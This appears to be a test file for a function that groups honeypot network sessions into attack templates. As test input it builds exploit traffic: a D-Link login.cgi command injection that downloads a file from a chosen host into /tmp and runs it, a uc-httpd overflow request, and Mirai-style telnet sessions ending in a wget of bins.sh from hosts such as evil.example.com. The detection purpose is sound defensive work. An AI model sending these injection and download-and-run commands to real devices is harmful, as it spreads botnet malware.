import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  DLINK_REQUEST,
  GPON_REQUEST,
  httpGet,
  MIRAI_CREDENTIALS,
  TELNET_BANNER,
  TELNET_COMMANDS,
  TELNET_LOGIN,
  TELNET_MIRAI_IAC,
  TELNET_PASSWORD,
  TELNET_SENSOR_IAC,
  UC_REQUEST_LINE,
  UDP_SNMP,
  UDP_SSDP,
  ucBody,
} from "../simulate/payloads.js";
import { bytes, session } from "./campaign-fixture.js";
import { MAX_TEMPLATE_TEXT, templateOf } from "./template.js";

const latin = (b: Uint8Array): string => Buffer.from(b).toString("latin1");
const cat = (...parts: Array<string | Uint8Array>): Uint8Array =>
  Buffer.concat(parts.map((p) => (typeof p === "string" ? bytes(p) : p)));

/** The uc-httpd overflow (CVE-2018-10088) as the PoC facts describe it. */
const uc = (n: number): Uint8Array =>
  cat(UC_REQUEST_LINE, `command=login&username=${"A".repeat(n)}&password=PoC\r\n\r\n`);
/** The DSL-2750B injection (in-the-wild shape, June 2018) with a chosen downloader. */
const dlink = (host: string, file: string): string =>
  `GET /login.cgi?cli=aa%20aa%27;wget%20http://${host}/${file}%20-O%20-%3E%20/tmp/${file};sh%20/tmp/${file}%27$ HTTP/1.1\r\n\r\n`;

const docV4 = fc
  .tuple(fc.constantFrom("192.0.2", "198.51.100", "203.0.113"), fc.integer({ min: 1, max: 254 }))
  .map(([p, h]) => `${p}.${h}`);
const downloader = fc.oneof(
  docV4,
  fc.tuple(docV4, fc.integer({ min: 1, max: 65535 })).map(([a, p]) => `${a}:${p}`),
  fc.stringMatching(/^[a-z]{3,10}$/).map((l) => `${l}.example.com`),
);
const fileName = fc.stringMatching(/^[a-z]{1,8}$/);

describe("templateOf", () => {
  it("gives the simulator's exploits distinct templates, each with its kind", () => {
    const ts = [
      templateOf(session({ client: cat(UC_REQUEST_LINE, ucBody(85)), dport: 8000 })),
      templateOf(session({ client: DLINK_REQUEST, dport: 8080 })),
      templateOf(session({ client: GPON_REQUEST, dport: 8080 })),
      templateOf(session({ client: httpGet(0xcb007105, 80) })),
    ];
    expect(new Set(ts.map((t) => t.id)).size).toBe(4);
    for (const t of ts) {
      expect(t.kind).toBe("http");
      expect(t.id).toMatch(/^[0-9a-f]{16}$/);
    }
    expect(ts[0]?.text).toBe(
      "POST /login.htm HTTP/1.1 h[] l[command=<S>&username=<RUN>&password=<S>]",
    );
    expect(ts[1]?.text).toBe("GET /login.cgi?cli=<CMD> HTTP/1.1 h[]");
  });

  it("puts Satori bots with different sensors, ports, downloaders and padding in one template", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 85, max: 400 }),
        fc.integer({ min: 85, max: 400 }),
        docV4,
        fc.constantFrom(80, 81, 8000),
        (n1, n2, dst, port) => {
          const a = templateOf(session({ client: uc(n1), dport: 8000 }));
          const b = templateOf(session({ client: uc(n2), dst, dport: port, src: "192.0.2.99" }));
          return a.id === b.id;
        },
      ),
    );
    fc.assert(
      fc.property(downloader, downloader, fileName, fileName, docV4, (h1, h2, f1, f2, dst) => {
        const a = templateOf(session({ client: dlink(h1, f1), dport: 80 }));
        const b = templateOf(session({ client: dlink(h2, f2), dport: 8080, dst }));
        return a.id === b.id;
      }),
    );
  });

  it("keeps the uc-httpd overflow apart from the DSL-2750B injection and from plain logins", () => {
    fc.assert(
      fc.property(fc.integer({ min: 85, max: 400 }), downloader, fileName, (n, h, f) => {
        return (
          templateOf(session({ client: uc(n) })).id !==
          templateOf(session({ client: dlink(h, f) })).id
        );
      }),
    );
    const login = templateOf(
      session({
        client: cat(UC_REQUEST_LINE, "command=login&username=admin&password=PoC\r\n\r\n"),
      }),
    );
    expect(login.id).not.toBe(templateOf(session({ client: uc(85) })).id);
  });

  it("does not split on random tokens, nonces, numbers and addresses", () => {
    const token = fc.stringMatching(/^[0-9a-f]{16,32}$/).filter((t) => /\d/.test(t));
    const mixed = fc
      .stringMatching(/^[A-Za-z0-9]{12,24}$/)
      .filter((t) => /\d.*\d/.test(t) && /[a-z].*[a-z]/i.test(t));
    fc.assert(
      fc.property(
        token,
        token,
        mixed,
        mixed,
        fc.nat(),
        fc.nat(),
        docV4,
        docV4,
        (t1, t2, m1, m2, n1, n2, a1, a2) => {
          const req = (t: string, m: string, n: number, a: string): string =>
            `GET /cgi-bin/${t}/x.cgi?sid=${m}&ts=${n}&ip=${a} HTTP/1.1\r\nHost: ${a}\r\nCookie: s=${t}\r\n\r\n`;
          return (
            templateOf(session({ client: req(t1, m1, n1, a1) })).id ===
            templateOf(session({ client: req(t2, m2, n2, a2) })).id
          );
        },
      ),
    );
    fc.assert(
      fc.property(token, token, docV4, docV4, (t1, t2, a1, a2) => {
        const raw = (t: string, a: string): string => `HELLO ${t} FROM ${a} v2\r\n`;
        return (
          templateOf(session({ client: raw(t1, a1), dport: 9000 })).id ===
          templateOf(session({ client: raw(t2, a2), dport: 9000 })).id
        );
      }),
    );
  });

  it("reads telnet: options, credentials folded, commands normalised", () => {
    const server = cat(TELNET_SENSOR_IAC, TELNET_LOGIN, TELNET_PASSWORD, TELNET_BANNER);
    const bot = (i: number, host: string): Uint8Array => {
      const [u, p] = MIRAI_CREDENTIALS[i] as readonly [Uint8Array, Uint8Array];
      return cat(
        TELNET_MIRAI_IAC,
        u,
        p,
        ...TELNET_COMMANDS,
        `cd /tmp; wget http://${host}/bins.sh\r\n`,
      );
    };
    const a = templateOf(session({ client: bot(0, "198.51.100.7"), server, dport: 23 }));
    const b = templateOf(session({ client: bot(5, "evil.example.com"), server, dport: 2323 }));
    expect(a.kind).toBe("telnet");
    expect(a.id).toBe(b.id);
    expect(a.text).toBe(
      "iac[fc01 fb1f fa1f fd01 fd03] login | enable ; system ; shell ; sh ; /bin/busybox ECCHI ; cd /tmp; wget http://<host>/bins.sh",
    );
    expect(a.text).not.toContain("xc3511");
    const other = cat(TELNET_MIRAI_IAC, "root\r\nroot\r\n", "cat /proc/cpuinfo\r\n");
    expect(templateOf(session({ client: other, server, dport: 23 })).id).not.toBe(a.id);
  });

  it("renders raw payloads printably, binary noise as <bin>", () => {
    const ssdp = templateOf(session({ client: UDP_SSDP, proto: "udp", dport: 1900 }));
    expect(ssdp.kind).toBe("udp");
    expect(ssdp.text).toContain("HOST: <host>:<n>\\r\\n");
    const tls = (r: string): string =>
      `\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03${r}\x00\x20\xc0\x2b`;
    const t1 = templateOf(
      session({ client: tls("\x8a\x11\x93\x27\xfe\x01\x55\x77\x99\xaa"), dport: 443 }),
    );
    const t2 = templateOf(
      session({ client: tls("\x01\xf2\x33\x44\x55\x66\x77\x88\x99\x10"), dport: 443 }),
    );
    expect(t1.kind).toBe("tcp");
    expect(t1.id).toBe(t2.id);
    expect(t1.text).toMatch(/^[\x20-\x7e]*$/);
    const snmp = templateOf(session({ client: UDP_SNMP, proto: "udp", dport: 161 }));
    expect(snmp.text).toContain("public");
  });

  it("never throws and stays bounded on hostile bytes", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 3000 }), fc.boolean(), (b, telnet) => {
        const c = telnet ? cat("\xff\xfb\x01", b) : b;
        const t = templateOf(session({ client: c, server: b.subarray(0, 100) }));
        return (
          t.text.length <= MAX_TEMPLATE_TEXT + 3 &&
          /^[0-9a-f]{16}$/.test(t.id) &&
          /^[\x20-\x7e]*$/.test(t.text)
        );
      }),
      { numRuns: 300 },
    );
    const requestish = fc
      .array(
        fc.constantFrom(
          "GET ",
          "POST ",
          "/",
          "?",
          "&",
          "=",
          "%",
          "%2",
          "+",
          " HTTP/1.1",
          "\r\n",
          "a:",
          "b",
          "<",
          ">",
          "1",
          "AAAAAAAAAAAAAAAAAAAA",
        ),
        { maxLength: 200 },
      )
      .map((a) => `GET /${a.join("")}`);
    fc.assert(
      fc.property(requestish, (text) => {
        const t = templateOf(session({ client: text }));
        return t.text.length <= MAX_TEMPLATE_TEXT + 3;
      }),
      { numRuns: 300 },
    );
  });

  it("keeps long overflow runs cheap to template", () => {
    const big = session({
      client: `POST /x HTTP/1.1\r\nContent-Length: 60000\r\n\r\nu=${"A".repeat(60000)}`,
    });
    // Speed is the benchmark's business; a quadratic path here would blow the test timeout.
    for (let i = 0; i < 100; i++) templateOf(big);
    expect(templateOf(big).text).toContain("u=<RUN>");
    expect(latin(big.clientBytes).length).toBeGreaterThan(60000);
  });
});
